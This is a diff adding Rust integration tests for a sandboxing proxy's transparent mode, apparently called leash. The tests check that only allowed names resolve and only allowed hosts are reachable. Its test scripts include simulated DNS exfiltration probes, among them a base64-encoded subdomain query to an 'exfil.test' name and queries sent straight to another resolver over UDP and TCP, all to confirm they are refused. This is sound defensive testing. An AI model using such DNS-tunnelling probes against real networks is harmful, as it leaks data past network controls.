@@ -1,0 +1,161 @@
+//! Transparent mode (`network: { transparent: true }`): clients that ignore `HTTPS_PROXY` — curl
+//! with `--noproxy '*'`, Node 20's `fetch`, Python's `socket` — reach allowed names through the
+//! kernel's redirect to the proxy, are judged exactly as a CONNECT would be (credentials swapped,
+//! L7 rules, IP hosts), and reach nothing else. DNS from the sandbox goes to leash's resolver,
+//! which answers allowed names only and forwards nothing: the network's resolver (the test's,
+//! on its own loopback address; `leash_tests::dns`) is never asked a name the policy does not
+//! allow, and a query sent straight to another address is answered by leash, never delivered.
+
+use std::process::Output;
+
+use leash_tests::dns::{leash_run_resolving, TestResolver};
+use leash_tests::upstream::Upstream;
+use leash_tests::*;
+
+const SECRET: &str = "transparent-secret-9d41";
+
+/// Transparent mode; `allowed.test:PORT` inspected with credential TOK bound to it, and
+/// `rawtcp.test:RAW` tunnelled as plain TCP.
+fn policy(port: u16, raw: u16) -> String {
+    format!(
+        "version: 1\nnetwork:\n  transparent: true\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      \
+         - {{ host: allowed.test, port: {port}, protocol: rest, access: read-only, allowed_ips: [127.0.0.0/8] }}\n      \
+         - {{ host: rawtcp.test, port: {raw}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n\
+         credentials:\n  TOK: {{ hosts: [allowed.test] }}\n"
+    )
+}
+
+fn run(scratch: &Scratch, up: &Upstream, raw: u16, script: &str) -> Output {
+    let policy = scratch.file("policy.yaml", &policy(up.port(), raw));
+    let creds = scratch.secret_file("credentials", &format!("TOK={SECRET}\n"));
+    let audit = scratch.0.join("audit.jsonl");
+    leash_run_resolving(
+        &scratch.0,
+        &policy,
+        &[
+            "--upstream-ca",
+            up.ca_pem.to_str().unwrap(),
+            "--credentials-file",
+            creds.to_str().unwrap(),
+            "--audit-log",
+            audit.to_str().unwrap(),
+        ],
+        &["/bin/sh", "-c", script],
+    )
+}
+
+fn describe(o: &Output) -> String {
+    format!("status {:?}\nstdout:\n{}\nstderr:\n{}", o.status, stdout(o), stderr(o))
+}
+
+#[test]
+fn names_resolve_only_when_allowed_and_no_query_leaves() {
+    require_root();
+    let up = Upstream::https();
+    let scratch = Scratch::new("transparent-dns");
+    // Another resolver address on loopback, where a query sent straight to it would land.
+    let elsewhere = UdpSink::new("127.0.0.154:53");
+    let queries = scratch.file(
+        "queries.py",
+        r#"import socket, struct
+
+def query(name):
+    q = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
+    for label in name.split('.'):
+        q += bytes([len(label)]) + label.encode()
+    return q + b'\x00\x00\x01\x00\x01'
+
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(query('direct.exfil.test'), ('127.0.0.154', 53))
+data, source = s.recvfrom(512)
+print('udp-direct rcode=%d from=%s' % (data[3] & 15, source[0]))
+s.sendto(query('allowed.test'), ('127.0.0.154', 53))
+data, source = s.recvfrom(512)
+print('udp-allowed rcode=%d answers=%d addr=%s' % (data[3] & 15, data[7], '.'.join(map(str, data[-4:]))))
+t = socket.create_connection(('127.0.0.154', 53), timeout=5)
+m = query('tcp.exfil.test')
+t.sendall(struct.pack('>H', len(m)) + m)
+n = struct.unpack('>H', t.recv(2))[0]
+data = t.recv(n)
+print('tcp rcode=%d' % (data[3] & 15))
+"#,
+    );
+    let script = format!(
+        "getent hosts allowed.test; echo allowed=$?; getent hosts c2VjcmV0.exfil.test; echo exfil=$?; python3 {}",
+        queries.display()
+    );
+    let out = run(&scratch, &up, 9, &script);
+    let text = stdout(&out);
+    assert!(out.status.success(), "{}", describe(&out));
+    assert!(
+        text.contains("allowed=0") && text.contains("198.18."),
+        "allowed.test must get a synthetic address: {}",
+        describe(&out)
+    );
+    assert!(text.contains("exfil=2"), "getent must find no exfil name: {}", describe(&out));
+    assert!(
+        text.contains("udp-direct rcode=3 from=127.0.0.154"),
+        "NXDOMAIN, shown as from the address asked: {}",
+        describe(&out)
+    );
+    assert!(text.contains("udp-allowed rcode=0 answers=1 addr=198.18."), "{}", describe(&out));
+    assert!(text.contains("tcp rcode=3"), "DNS over TCP is answered by leash too: {}", describe(&out));
+    assert_eq!(
+        TestResolver::get().asked_for("exfil"),
+        Vec::<String>::new(),
+        "a refused name reached the network's resolver"
+    );
+    assert_eq!(elsewhere.received(), 0, "a query sent straight to another resolver was delivered");
+    assert!(stderr(&out).contains("refused dns c2vjcmv0.exfil.test"), "refusals are audited: {}", describe(&out));
+    let audit = std::fs::read_to_string(scratch.0.join("audit.jsonl")).unwrap_or_default();
+    assert!(audit.contains("\"class_name\":\"DNS Activity\""), "{audit}");
+}
+
+#[test]
+fn clients_that_ignore_the_proxy_reach_allowed_names_and_nothing_else() {
+    require_root();
+    let up = Upstream::https();
+    let raw = Listener::http("127.0.0.1:0", "raw-ok");
+    let scratch = Scratch::new("transparent-clients");
+    let p = up.port();
+    let r = raw.addr.port();
+    let script = format!(
+        "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy ALL_PROXY all_proxy; \
+         curl -sS --max-time 20 -H \"Authorization: Bearer $TOK\" https://allowed.test:{p}/curl; echo; \
+         if curl -sSf --max-time 5 https://allowed.test:{p}/x -X POST >/dev/null 2>&1; then echo post=ok; else echo post=refused; fi; \
+         if curl -sS --max-time 5 https://denied.test:{p}/ >/dev/null 2>&1; then echo denied-name=ok; else echo denied-name=refused; fi; \
+         if curl -sS --max-time 5 https://127.0.0.1:{p}/ >/dev/null 2>&1; then echo ip=ok; else echo ip=refused; fi; \
+         /usr/bin/node -e \"fetch('https://allowed.test:{p}/node', {{ headers: {{ authorization: 'Bearer ' + process.env.TOK }}, signal: AbortSignal.timeout(20000) }}).then(async r => console.log('node ' + r.status + ' ' + (await r.text()).length)).catch(e => console.log('node ERR ' + e.message))\"; \
+         python3 -c \"import socket,ssl; c=ssl.create_default_context(); s=c.wrap_socket(socket.create_connection(('allowed.test',{p}),timeout=10),server_hostname='allowed.test'); s.sendall(b'GET /python HTTP/1.1\\r\\nHost: allowed.test:{p}\\r\\nConnection: close\\r\\n\\r\\n'); print('python', s.recv(12).decode())\"; \
+         python3 -c \"import socket; s=socket.create_connection(('rawtcp.test',{r}),timeout=10); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('raw', s.makefile('rb').read().decode().split()[-1])\"; \
+         python3 -c \"import socket; socket.create_connection(('127.0.0.1',{r}),timeout=5).recv(1) or print('raw-ip closed')\" 2>&1 | tail -1"
+    );
+    let out = run(&scratch, &up, r, &script);
+    let text = stdout(&out);
+    assert!(out.status.success(), "{}", describe(&out));
+    let curl: serde_json::Value = text
+        .lines()
+        .find(|l| l.starts_with('{'))
+        .and_then(|l| serde_json::from_str(l).ok())
+        .unwrap_or_else(|| panic!("no JSON from the upstream: {}", describe(&out)));
+    assert_eq!(curl["path"], "/curl", "{curl}");
+    assert_eq!(curl["sni"], "allowed.test", "the proxy dials the name the synthetic address stands for: {curl}");
+    assert!(up.received_text(&format!("Bearer {SECRET}")), "the credential was swapped in: {}", describe(&out));
+    assert!(text.contains("post=refused"), "L7 rules apply (read-only): {}", describe(&out));
+    assert!(text.contains("denied-name=refused"), "{}", describe(&out));
+    assert!(text.contains("ip=refused"), "an IP literal is judged as an IP host: {}", describe(&out));
+    assert!(text.contains("node 200"), "Node 20's fetch ignores HTTPS_PROXY: {}", describe(&out));
+    assert!(text.contains("python HTTP/1.1 200"), "{}", describe(&out));
+    assert!(text.contains("raw raw-ok"), "plain TCP to a protocol: tcp endpoint: {}", describe(&out));
+    assert!(text.contains("raw-ip closed"), "an unlisted IP is refused at the proxy: {}", describe(&out));
+    assert_eq!(raw.accepted(), 1, "only the allowed name reached the TCP listener: {}", describe(&out));
+    let paths: Vec<String> = up.seen().iter().map(|s| s.target.clone()).collect();
+    assert_eq!(paths, ["/curl", "/node", "/python"], "only allowed requests reached the upstream: {}", describe(&out));
+    assert!(!stderr(&out).contains(SECRET), "{}", describe(&out));
+    let audit = std::fs::read_to_string(scratch.0.join("audit.jsonl")).unwrap_or_default();
+    assert!(!audit.contains(SECRET));
+    assert!(audit.contains("\"client_mode\":\"redirected\""), "{audit}");
+    assert!(stderr(&out).contains("refused dns denied.test"), "{}", describe(&out));
+    assert!(stderr(&out).contains("denied proxy CONNECT 127.0.0.1"), "{}", describe(&out));
+}
